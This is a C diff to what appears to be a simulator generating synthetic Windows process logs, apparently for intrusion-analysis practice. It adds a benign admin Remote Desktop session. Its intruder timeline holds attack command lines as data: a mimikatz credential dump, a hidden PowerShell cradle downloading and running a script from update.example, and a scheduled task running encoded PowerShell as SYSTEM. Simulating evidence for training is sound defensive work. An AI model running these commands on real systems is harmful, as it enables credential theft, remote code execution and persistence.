@@ -14,6 +14,7 @@
 #define SYSTEM "S-1-5-18"
 #define NETWORK_SERVICE "S-1-5-20"
 #define HANAKO "S-1-5-21-1004336348-1177238915-682003330-1101"
+#define IT_ADMIN "S-1-5-21-1004336348-1177238915-682003330-1102"
 #define KUMI "S-1-5-21-1004336348-1177238915-682003330-1104"
 #define SYSTEM32 "\\Windows\\System32\\"
 #define OFFICE "\\Program Files\\Office\\"
@@ -158,23 +159,34 @@ office_day(struct maker *m, enum sim_host host, unsigned day, uint32_t *next)
     }
 }
 
+/* Day 2, 10:20: who looks after the PC is on it over Remote Desktop for half an hour. */
+static const struct sim_process admin[] = {
+    {0, 7000, 6900, AT_MS(2, 10, 20) + 34000, AT_MS(2, 10, 50), 0, SIM_SESSION_ADMIN, IT_ADMIN,
+     "\\Windows\\", "explorer.exe", "C:\\Windows\\Explorer.EXE", 0, 0, 0, 0},
+    {0, 7004, 7000, AT_MS(2, 10, 25), AT_MS(2, 10, 49), 0, SIM_SESSION_ADMIN, IT_ADMIN, SYSTEM32,
+     "mmc.exe", "mmc.exe compmgmt.msc", 0, 0, 0, 0},
+    {0, 7008, 7000, AT_MS(2, 10, 30), AT_MS(2, 10, 31), 0, SIM_SESSION_ADMIN, IT_ADMIN, SYSTEM32,
+     "cmd.exe", "cmd.exe /c ipconfig /all", 0, 0, 0, 0},
+};
+
 /* Day 2, 22:41: who guessed the password of kumi has a desktop. The shell of 22:42 ends before the
  * task that it made begins; the miner is a service. */
 static const struct sim_process story[] = {
-    {SIM_PC_A, PID_KUMI, 6000, AT_MS(2, 22, 41) + 4000, 0, 0, 3, KUMI, "\\Windows\\",
-     "explorer.exe", "C:\\Windows\\Explorer.EXE", 0, 0, 0, 1},
-    {SIM_PC_A, PID_SHELL_DEAD, PID_KUMI, AT_MS(2, 22, 42), AT_MS(2, 22, 50), 0, 3, KUMI, SYSTEM32,
-     "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"", 0, 0, 0, 1},
-    {SIM_PC_A, PID_TOOL, PID_SHELL_DEAD, AT_MS(2, 22, 43), AT_MS(2, 22, 44), 0, 3, KUMI,
-     "\\Users\\kumi\\Downloads\\", "mimikatz.exe",
+    {SIM_PC_A, PID_KUMI, 6000, AT_MS(2, 22, 41) + 4000, 0, 0, SIM_SESSION_INTRUDER, KUMI,
+     "\\Windows\\", "explorer.exe", "C:\\Windows\\Explorer.EXE", 0, 0, 0, 1},
+    {SIM_PC_A, PID_SHELL_DEAD, PID_KUMI, AT_MS(2, 22, 42), AT_MS(2, 22, 50), 0,
+     SIM_SESSION_INTRUDER, KUMI, SYSTEM32, "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"", 0, 0, 0,
+     1},
+    {SIM_PC_A, PID_TOOL, PID_SHELL_DEAD, AT_MS(2, 22, 43), AT_MS(2, 22, 44), 0,
+     SIM_SESSION_INTRUDER, KUMI, "\\Users\\kumi\\Downloads\\", "mimikatz.exe",
      "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit", 0, 0, 0, 1},
-    {SIM_PC_A, PID_SCRIPT, PID_SHELL_DEAD, AT_MS(2, 22, 49), AT_MS(2, 22, 58), 0, 3, KUMI,
-     SYSTEM32 "WindowsPowerShell\\v1.0\\", "powershell.exe",
+    {SIM_PC_A, PID_SCRIPT, PID_SHELL_DEAD, AT_MS(2, 22, 49), AT_MS(2, 22, 58), 0,
+     SIM_SESSION_INTRUDER, KUMI, SYSTEM32 "WindowsPowerShell\\v1.0\\", "powershell.exe",
      "powershell.exe -NoP -W Hidden -C \"IEX(New-Object "
      "Net.WebClient).DownloadString('http://update.example/in.ps1')\"",
      1, 0, 0, 1},
-    {SIM_PC_A, PID_TASK, PID_SHELL_DEAD, AT_MS(2, 22, 57), AT_MS(2, 22, 57) + 900, 0, 3, KUMI,
-     SYSTEM32, "schtasks.exe",
+    {SIM_PC_A, PID_TASK, PID_SHELL_DEAD, AT_MS(2, 22, 57), AT_MS(2, 22, 57) + 900, 0,
+     SIM_SESSION_INTRUDER, KUMI, SYSTEM32, "schtasks.exe",
      "schtasks /create /ru system /sc MINUTE /mo 60 /tn blackball /tr "
      "\"powershell -ep bypass -e SQBFAFgA\" /F",
      0, 0, 0, 1},
@@ -196,6 +208,12 @@ make_processes(struct maker *m)
         }
         for (unsigned day = 0; day < SIM_DAYS; day++) {
             office_day(m, host, day, &next);
+        }
+        for (size_t i = 0; i < sizeof(admin) / sizeof(admin[0]); i++) {
+            struct sim_process p = admin[i];
+
+            p.host = host;
+            add_process(m, &p);
         }
     }
     for (size_t i = 0; i < sizeof(story) / sizeof(story[0]); i++) {
